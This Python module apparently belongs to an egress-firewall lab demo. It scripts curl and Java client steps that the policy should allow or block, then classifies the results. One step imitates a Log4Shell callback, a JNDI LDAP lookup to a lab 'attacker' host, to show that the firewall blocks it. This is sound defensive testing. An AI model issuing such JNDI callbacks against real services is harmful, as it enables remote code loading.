"""The demo's scripted workload: real clients in og-lab-server, each step allowed or blocked.

Place in the data flow: `demo` applies the lab policy, then `run_steps(demo_steps(...))` runs
every step as a real process inside og-lab-server (curl through the lab DNS, a real JVM doing a
JNDI LDAP lookup, curl as user nobody) and `classify` turns exit codes into what happened.
The results go to `report`. Steps, argv and classification are pure; only `ns_runner` runs
anything, and it is passed in so tests can drive the workload without a kernel.

A blocked connection is dropped, so the client sees a timeout: every client gets a 2 s connect
timeout and every process an outer deadline.
"""

from __future__ import annotations

import contextlib
import enum
import shlex
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from importlib import resources
from typing import Literal

from outguard.errors import LabError
from outguard.kernel import netns, procs
from outguard.lab import topology as t

CONNECT_TIMEOUT = 2
CURL_MAX_TIME = 6
JAVA_CLASS = "JndiLookup"
JAVA_ASSET = f"{JAVA_CLASS}.java"
API_CLASS = "ApiCall"
"""The journey's Java service: one HTTP GET to the API (assets/ApiCall.java)."""
JAVA_CLASSES = (JAVA_CLASS, API_CLASS)
DEMO_TOOLS = {"curl": "curl", "java": "openjdk-17-jdk-headless",
              "javac": "openjdk-17-jdk-headless", "setpriv": "util-linux"}
"""Programs the workload runs -> the Debian package that ships them."""


class Outcome(enum.Enum):
    ALLOWED = "allowed"
    BLOCKED = "blocked"
    ERROR = "error"
    """Neither: the client failed for another reason (DNS, a crash, a hang)."""


@dataclass(frozen=True)
class Step:
    key: str
    description: str
    argv: tuple[str, ...]
    """Runs inside og-lab-server."""
    expected: Outcome
    rule: str
    """The policy rule expected to decide it ("default" for the default action)."""
    counter: str
    """That rule's key in `outguard status --json` counters."""
    client: Literal["curl", "java", "ntp"]
    """How its exit is read: curl's codes, or 0 reached / 3 blocked (JndiLookup, ntp)."""
    timeout: float

    @property
    def command(self) -> str:
        """The argv as a shell line (run it after `ip netns exec og-lab-server`)."""
        return shlex.join(self.argv)


@dataclass(frozen=True)
class RunOutput:
    returncode: int | None
    """None if the process hit its deadline and was killed."""
    stdout: str
    stderr: str
    pid: int | None = None
    """`ip netns exec` execs the command, so this is the client's own pid (java's, curl's)."""


@dataclass(frozen=True)
class StepResult:
    step: Step
    observed: Outcome
    detail: str
    seconds: float
    pid: int | None = None

    @property
    def ok(self) -> bool:
        return self.observed == self.step.expected


Runner = Callable[[Sequence[str], float], RunOutput]


def curl_argv(url: str, *, as_nobody: bool = False, cacert: str | None = None) -> tuple[str, ...]:
    argv = ["curl", "-q", "-sS", "--noproxy", "*",
            "--connect-timeout", str(CONNECT_TIMEOUT), "--max-time", str(CURL_MAX_TIME),
            "-o", "/dev/null", "-w", "%{http_code} %{remote_ip} %{time_connect}"]
    if cacert is not None:
        argv += ["--cacert", cacert]
    argv.append(url)
    if as_nobody:
        argv = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", *argv]
    return tuple(argv)


def java_argv(paths: t.LabPaths, url: str) -> tuple[str, ...]:
    return ("java", "-cp", str(paths.java_dir), JAVA_CLASS, url, str(CONNECT_TIMEOUT * 1000))


def demo_steps(paths: t.LabPaths) -> list[Step]:
    """The workload, in order; expectations follow examples/lab-policy.yaml."""
    api, mirror, unlisted = t.host("api"), t.host("mirror"), t.host("unlisted")
    backup, attacker = t.host("backup"), t.host("attacker")
    allowed, blocked = Outcome.ALLOWED, Outcome.BLOCKED
    curl_t = CURL_MAX_TIME + 4.0
    return [
        Step("api-name", "web API by name (lab DNS)", curl_argv(f"http://{api.fqdn}/"),
             allowed, "web-api", "allow:web-api", "curl", curl_t),
        Step("api-v6", "web API, IPv6 literal", curl_argv(f"http://[{api.ipv6}]/"),
             allowed, "web-api", "allow:web-api", "curl", curl_t),
        Step("api-https", "web API over HTTPS (port 443)",
             curl_argv(f"https://{api.fqdn}/", cacert=str(paths.tls_cert)),
             allowed, "web-api", "allow:web-api", "curl", curl_t),
        Step("mirror", "package mirror by name", curl_argv(f"http://{mirror.fqdn}/"),
             allowed, "package-mirror", "allow:package-mirror", "curl", curl_t),
        Step("unlisted", "host the policy does not list", curl_argv(f"http://{unlisted.fqdn}/"),
             blocked, "default", "default", "curl", curl_t),
        Step("jndi", "Log4Shell callback: Java JNDI LDAP lookup",
             java_argv(paths, f"ldap://{attacker.ipv4}:1389/x"),
             blocked, "attacker-net", "deny:attacker-net", "java", 20.0),
        Step("attacker-v6", "attacker's HTTP over IPv6",
             curl_argv(f"http://[{attacker.ipv6}]:8080/"),
             blocked, "attacker-net", "deny:attacker-net", "curl", curl_t),
        Step("backup-root", "backup host as root", curl_argv(f"http://{backup.ipv4}/"),
             blocked, "default", "default", "curl", curl_t),
        Step("backup-nobody", "backup host as user nobody",
             curl_argv(f"http://{backup.ipv4}/", as_nobody=True),
             allowed, "backup-as-nobody", "allow:backup-as-nobody", "curl", curl_t),
    ]


def _last_line(text: str) -> str:
    lines = [ln.strip() for ln in text.strip().splitlines() if ln.strip()]
    return lines[-1] if lines else ""


def classify_curl(out: RunOutput) -> tuple[Outcome, str]:
    if out.returncode is None:
        return Outcome.ERROR, "curl did not finish before its deadline"
    fields = out.stdout.split()
    code = fields[0] if fields else "000"
    remote = fields[1] if len(fields) > 1 else ""
    connected = len(fields) > 2 and fields[2] not in ("0", "0.000000")
    if out.returncode == 0:
        return Outcome.ALLOWED, f"HTTP {code} from {remote}"
    if out.returncode == 28 and not connected:
        return Outcome.BLOCKED, f"no answer: connect timed out after {CONNECT_TIMEOUT} s"
    if out.returncode == 7:
        # Dropped packets time out (28); 7 means refused or unreachable: a `reject` rule.
        return Outcome.BLOCKED, f"connection refused or unreachable: {_last_line(out.stderr)}"
    if out.returncode == 6:
        return Outcome.ERROR, "the name did not resolve through the lab DNS"
    return Outcome.ERROR, f"curl exit {out.returncode}: {_last_line(out.stderr)}"


def classify_java(out: RunOutput) -> tuple[Outcome, str]:
    """Exit codes are JndiLookup.java's: 0 reached, 3 connect failed, 4 other."""
    line = _last_line(out.stdout) or _last_line(out.stderr)
    if out.returncode is None:
        return Outcome.ERROR, "java did not finish before its deadline"
    if out.returncode == 0:
        return Outcome.ALLOWED, line
    if out.returncode == 3:
        return Outcome.BLOCKED, line
    return Outcome.ERROR, f"java exit {out.returncode}: {line}"


def classify(step: Step, out: RunOutput) -> tuple[Outcome, str]:
    return classify_curl(out) if step.client == "curl" else classify_java(out)


def ns_runner(ns: str = t.SERVER_NS) -> Runner:
    """Runs argv inside `ns` with a deadline (the killed process is reported, not raised)."""

    def run(argv: Sequence[str], timeout: float) -> RunOutput:
        try:
            got = procs.run_bounded(netns.exec_argv(ns, argv), timeout=timeout)
        except procs.NotInstalledError as exc:
            raise LabError("the `ip` command (iproute2) is not installed") from exc
        return RunOutput(got.code, got.stdout, got.stderr, got.pid)

    return run


def run_step(step: Step, runner: Runner) -> StepResult:
    started = time.monotonic()
    out = runner(step.argv, step.timeout)
    observed, detail = classify(step, out)
    return StepResult(step, observed, detail, time.monotonic() - started, out.pid)


def run_steps(
    steps: Sequence[Step], runner: Runner, on_result: Callable[[StepResult], None] | None = None
) -> list[StepResult]:
    results: list[StepResult] = []
    for step in steps:
        result = run_step(step, runner)
        results.append(result)
        if on_result is not None:
            on_result(result)
    return results


def compile_java(paths: t.LabPaths) -> None:
    """Compile the lab's Java clients (the JNDI lookup, the API caller) into the runtime dir,
    once per lab: the JVM then starts fast."""
    if all((paths.java_dir / f"{c}.class").exists() for c in JAVA_CLASSES):
        return
    paths.java_dir.mkdir(parents=True, exist_ok=True)
    assets = resources.files("outguard.lab").joinpath("assets")
    with contextlib.ExitStack() as stack:
        sources = [str(stack.enter_context(resources.as_file(assets.joinpath(f"{c}.java"))))
                   for c in JAVA_CLASSES]
        try:
            proc = procs.run(["javac", "-d", str(paths.java_dir), *sources], timeout=120)
        except procs.NotInstalledError as exc:
            raise LabError("`javac` is missing: apt-get install openjdk-17-jdk-headless") from exc
        except procs.TimedOutError as exc:
            raise LabError("javac did not compile the lab's Java clients in 120 s") from exc
    if proc.returncode != 0:
        raise LabError(f"javac failed on {', '.join(JAVA_CLASSES)}: {proc.stderr.strip()}")
